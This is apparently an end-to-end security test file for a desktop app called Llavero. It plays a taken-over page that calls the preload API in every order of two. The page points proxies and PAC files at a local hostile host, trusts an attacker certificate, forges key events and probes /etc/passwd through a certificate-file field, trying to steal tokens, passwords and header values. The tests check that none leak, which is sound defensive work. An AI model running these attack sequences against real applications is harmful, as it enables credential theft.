import { expect, it, onTestFinished } from 'vitest';
import { startHostileHost } from '../../prove/hostile-host.ts';
import { makeCertificate } from '../../support/certificates.ts';
import { startForeignServer } from '../../support/foreign-server.ts';
import { launchApp } from '../../support/launch-app.ts';
import {
  ana,
  answerQuestions,
  createAccount,
  expectProfile,
  logIn,
  questionsOf,
  useServer,
} from '../../support/screens.ts';

/**
 * Runs in the page, with all that the preload gives: each order of two calls of which a theft is made.
 * @returns what was answered, and what was said of three files that nobody chose
 */
async function playHostilePage({ host, sha256, typed }: { host: string; sha256: string; typed: string }) {
  const { api } = window;
  const now = async () => {
    const state = await api.app.state();
    if (!state.ok || state.value.locked) throw new Error('there is no state');
    return state.value;
  };
  const { servers, activeServerId: id, sessions } = await now();
  const server = servers.find((each) => each.id === id)!;
  const session = sessions[0]!.id;
  const none = { form: 'none' } as const;
  const limits = { connectSeconds: '2', firstByteSeconds: '2', totalSeconds: '2' };
  const connection = {
    proxy: { mode: 'system' } as const,
    authorityFile: '',
    clientCertificate: none,
    limits,
    secrets: {},
  };
  const manual = (scheme: string) =>
    ({ mode: 'manual', address: `${scheme}://${host}`, username: '', noProxy: '' }) as const;
  const proxies = [manual('http'), { mode: 'pac', url: `http://${host}/x.pac` }] as const;
  const said: unknown[] = [];
  const edit = (proxy: (typeof proxies)[number], address = server.baseUrl) =>
    api.servers.edit({ ...server, address, enteredConnection: { ...connection, proxy } });
  // Each order of two of these, which is what the theft of a token was made of.
  const acts = [
    ...proxies.map((proxy) => () => edit(proxy)),
    () => edit(manual('http'), `https://${host}`),
    () => api.servers.trust({ id, sha256 }),
    () =>
      api.servers.test({
        id,
        address: server.baseUrl,
        enteredConnection: { ...connection, proxy: manual('http') },
      }),
    () => api.sessions.check({ id: session }),
    () => api.servers.chooseAddress({ address: `https://${host}` }),
    () => api.session.login({ email: 'ana@example.test', password: typed }),
    () => api.servers.choose({ id }),
  ];
  for (const first of acts) for (const second of acts) said.push(await first(), await second());
  await Promise.all(
    [...acts, () => api.servers.duplicate({ id }), () => api.servers.distrust({ id })].map((act) => act()),
  );
  // A page can make events of keys; they are not what a person presses.
  await api.servers.chooseAddress({ address: `http://${host}` });
  for (const key of `http://${host}`) {
    for (const type of ['keydown', 'keypress', 'keyup'])
      document.activeElement?.dispatchEvent(new KeyboardEvent(type, { key, bubbles: true }));
  }
  await api.servers.chooseAddress({ address: `http://${host}` });
  said.push(await api.session.login({ email: 'ana@example.test', password: typed }));
  await api.servers.choose({ id });
  const file = async (authorityFile: string) => {
    const result = await api.servers.test({
      address: server.baseUrl,
      enteredConnection: { ...connection, authorityFile },
    });
    return result.ok ? 'ok' : JSON.stringify(result.error);
  };
  return {
    said: JSON.stringify(said),
    files: [await file('/etc/passwd'), await file('/nowhere'), await file('/etc')],
  };
}

/** Runs in the page: what a theft of the values of extra headers would be made of, in each order of two. */
async function attackHeaders({ host, gateUrl }: { host: string; gateUrl: string }) {
  const { api } = window;
  const state = await api.app.state();
  if (!state.ok || state.value.locked) throw new Error('there is no state');
  const gate = state.value.servers.find(({ baseUrl }) => baseUrl === gateUrl)!;
  const connection = {
    proxy: { mode: 'manual', address: `http://${host}`, username: '', noProxy: '' },
    authorityFile: '',
    clientCertificate: { form: 'none' },
    limits: { connectSeconds: '2', firstByteSeconds: '2', totalSeconds: '2' },
    secrets: {},
  } as const;
  const direct = { ...connection, proxy: { mode: 'none' } } as const;
  const headers = [{ name: 'X-Gate', value: '' }];
  const acts = [
    () => api.servers.edit({ ...gate, address: gateUrl, enteredConnection: { ...connection, headers } }),
    () => api.servers.edit({ ...gate, address: gateUrl, enteredConnection: connection }),
    () => api.servers.test({ id: gate.id, address: gateUrl, enteredConnection: { ...connection, headers } }),
    () => api.servers.test({ id: gate.id, address: `http://${host}`, enteredConnection: { ...direct, headers } }),
    () => api.servers.duplicate({ id: gate.id }),
    () => api.servers.test({ id: gate.id, address: gateUrl }),
  ];
  const said: unknown[] = [];
  for (const first of acts) for (const second of acts) said.push(await first(), await second());
  // At another address they are dropped, and are not there when it is back.
  for (const address of [`http://${host}`, gateUrl, `http://${host}/x`]) {
    said.push(await api.servers.edit({ ...gate, address, enteredConnection: { ...direct, headers } }));
    said.push(await api.servers.test({ id: gate.id, address }));
  }
  const after = await api.app.state();
  return JSON.stringify([said, after]);
}

// What `test/unit/taken-over-page.test.ts` plays with every method, once in the real window.
it('a page that was taken over sends no token and no password elsewhere, whatever it calls and in whatever order', async () => {
  const own = makeCertificate({ commonName: 'staging', names: ['127.0.0.2'] });
  const evilIdentity = makeCertificate({ commonName: 'Evil', names: ['127.0.0.2', '127.0.0.4'] });
  const foreign = await startForeignServer({ tls: own });
  const evil = await startHostileHost(evilIdentity);
  onTestFinished(() => evil.close());
  const { app, page } = await launchApp();
  await answerQuestions(app, true);
  await useServer(page, foreign.baseUrl);
  await logIn(page, ana);
  await page.getByRole('button', { name: 'Trust this certificate for this server' }).click();
  await createAccount(page, ana);
  await expectProfile(page, ana);
  expect(await questionsOf(app)).toHaveLength(1);
  await answerQuestions(app, false);

  const answers = await page.evaluate(playHostilePage, {
    host: evil.host,
    sha256: evilIdentity.sha256,
    typed: 'what was typed',
  });

  // No answer says which files there are.
  const notChosen = JSON.stringify({ kind: 'invalid-connection', field: 'authorityFile' });
  expect(answers.files).toEqual([notChosen, notChosen, notChosen]);
  const [token = ''] = foreign.issued;
  expect(token).not.toBe('');
  // It was talked to, so that it would have got what was sent.
  expect(evil.received()).not.toBe('');
  for (const secret of [token, token.split('|')[1]!, 'what was typed', ana.password]) {
    expect(evil.received()).not.toContain(secret);
    expect(answers.said).not.toContain(secret === 'what was typed' ? token : secret);
  }
  // Each kind of question was refused once and was not asked again.
  const asked = (await questionsOf(app)).map(({ message }) => message).toSorted();
  expect(asked).toEqual([
    expect.stringMatching(/^Change how Llavero reaches 127\.0\.0\.2:\d+\?$/),
    expect.stringMatching(/^Send a password to 127\.0\.0\.4:\d+ for the first time\?$/),
  ]);

  // The session is as it was, and goes where it went.
  await expectProfile(page, ana);
  const before = foreign.calls.length;
  await page.getByRole('button', { name: 'Check again', exact: true }).click();
  await expect.poll(() => foreign.calls.length).toBeGreaterThan(before);
  await expectProfile(page, ana);
});

it('a page that was taken over sends the value of an extra header nowhere else, and never learns it', async () => {
  const value = 'only the gate may know';
  const gate = await startForeignServer();
  const evil = await startHostileHost(makeCertificate({ commonName: 'Evil', names: ['127.0.0.4'] }));
  onTestFinished(() => evil.close());
  const { app, page } = await launchApp();
  await answerQuestions(app, true);
  await useServer(page, gate.baseUrl);
  await page.getByRole('navigation', { name: 'Rooms' }).getByRole('button', { name: 'Servers', exact: true }).click();
  await page.locator('summary').filter({ hasText: 'Extra headers' }).click();
  await page.getByRole('button', { name: 'Add header' }).click();
  await page.getByLabel('Name', { exact: true }).last().fill('X-Gate');
  await page.getByLabel('Value', { exact: true }).fill(value);
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await expect.poll(() => page.getByLabel('Value', { exact: true }).getAttribute('placeholder')).toMatch(/^Set/);
  await page.getByRole('button', { name: 'Test connection' }).click();
  await expect.poll(() => gate.calls.at(-1)?.headers['x-gate']).toBe(value);
  await answerQuestions(app, false);

  const said = await page.evaluate(attackHeaders, { host: evil.host, gateUrl: gate.baseUrl });

  expect(evil.received()).not.toBe('');
  expect(evil.received()).not.toContain(value);
  expect(said).not.toContain(value);
  expect((await questionsOf(app)).map(({ message }) => message)).toEqual([
    expect.stringMatching(/^Change how Llavero reaches 127\.0\.0\.2:\d+\?$/),
  ]);
});
